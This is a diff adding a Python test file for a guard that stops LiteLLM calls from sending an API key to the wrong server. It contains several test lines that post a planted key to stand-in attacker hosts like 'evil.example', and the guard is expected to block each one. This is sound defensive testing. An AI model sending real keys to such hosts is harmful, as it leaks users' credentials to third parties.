@@ -1,0 +1,112 @@
+"""The guard between LiteLLM and the network."""
+
+from __future__ import annotations
+
+import asyncio
+from typing import Any
+
+import httpx
+import pytest
+
+from tests.engine.listening import LITELLM
+from workbench.core.lanes import Endpoint
+from workbench.engine.calls import Call
+from workbench.engine.child import key_guard
+from workbench.engine.child.failures import Where
+from workbench.engine.child.key_guard import KeyHeldBackError, guarded
+from workbench.engine.child.litellm_failures import failure_of
+
+KEY = "sk-planted-0123456789"
+
+
+@pytest.fixture(autouse=True)
+def _installed(monkeypatch: pytest.MonkeyPatch) -> None:
+    """The guard before a network that answers everything."""
+
+    def answer(self: object, request: httpx.Request, **_: object) -> httpx.Response:
+        return httpx.Response(200, request=request)
+
+    async def answer_later(self: object, request: httpx.Request, **_: object) -> httpx.Response:
+        return httpx.Response(200, request=request)
+
+    monkeypatch.setattr(httpx.Client, "send", answer)
+    monkeypatch.setattr(httpx.AsyncClient, "send", answer_later)
+    key_guard.install()
+
+
+def call(base_url: str = "", model: str = "m") -> Call:
+    endpoint = Endpoint("litellm", "litellm", "LiteLLM", base_url) if base_url else LITELLM
+    return Call("c", endpoint, model, (), key=KEY)
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "https://inference.baseten.co/v1/chat/completions",
+        "https://model-abc.api.baseten.co/environments/production/sync",
+    ],
+)
+def test_the_key_goes_to_the_provider(url: str) -> None:
+    with guarded(call(), "baseten"):
+        assert httpx.post(url, headers={"authorization": f"Bearer {KEY}"}).status_code == 200
+
+
+@pytest.mark.parametrize(
+    "url",
+    ["https://model-x.evil.example/.api.baseten.co/", "https://baseten.co.evil.example/", "https://api.openai.com/v1"],
+)
+def test_a_model_id_that_names_a_host_sends_no_key_there(url: str) -> None:
+    with guarded(call(), "baseten"), pytest.raises(KeyHeldBackError, match="a key that is not for it") as caught:
+        httpx.post(url, headers={"authorization": f"Bearer {KEY}"})
+    assert KEY not in str(caught.value)
+
+
+@pytest.mark.parametrize(
+    "asked",
+    [
+        {"headers": {"x-api-key": KEY}},
+        {"json": {"key": KEY}},
+        {"params": {"key": KEY}},
+    ],
+    ids=["header", "body", "address"],
+)
+def test_wherever_it_stands(asked: dict[str, Any]) -> None:
+    with guarded(call("https://gateway.example/v1"), "openai"), pytest.raises(KeyHeldBackError):
+        httpx.post("https://evil.example/", **asked)
+
+
+def test_an_address_that_was_given_is_the_only_one() -> None:
+    with guarded(call("https://gateway.example/v1"), "openai"):
+        assert httpx.post("https://gateway.example/v1/x", headers={"authorization": KEY}).status_code == 200
+        with pytest.raises(KeyHeldBackError):
+            httpx.post("https://api.openai.com/v1/x", headers={"authorization": KEY})
+
+
+def test_what_holds_no_key_may_go_anywhere() -> None:
+    with guarded(call(), "openai"):
+        assert httpx.get("https://elsewhere.example/").status_code == 200
+
+
+async def _ask() -> None:
+    async with httpx.AsyncClient() as client:
+        with guarded(call(), "openai"), pytest.raises(KeyHeldBackError):
+            await client.post("https://evil.example", headers={"authorization": KEY})
+
+
+def test_calls_that_wait_are_held_back_too() -> None:
+    asyncio.run(_ask())
+
+
+def test_a_key_that_is_exchanged_goes_to_the_server_that_exchanges_it() -> None:
+    with guarded(call("https://us-south.ml.cloud.ibm.com"), "watsonx"):
+        assert httpx.post("https://iam.cloud.ibm.com/identity/token", data={"apikey": KEY}).status_code == 200
+
+
+def test_what_was_held_back_is_said_as_what_it_is() -> None:
+    with guarded(call("https://gateway.example/v1"), "openai"), pytest.raises(KeyHeldBackError) as caught:
+        httpx.post("https://evil.example", headers={"authorization": KEY})
+    # So LiteLLM tells it on.
+    wrapped = Exception(f"litellm.APIConnectionError: OpenAIException - {caught.value}")
+    failure = failure_of(wrapped, Where("OpenAI", "gpt-5"), has_text=False).failure
+    assert failure.code == "bad_address"
+    assert "to another server" in failure.sentence
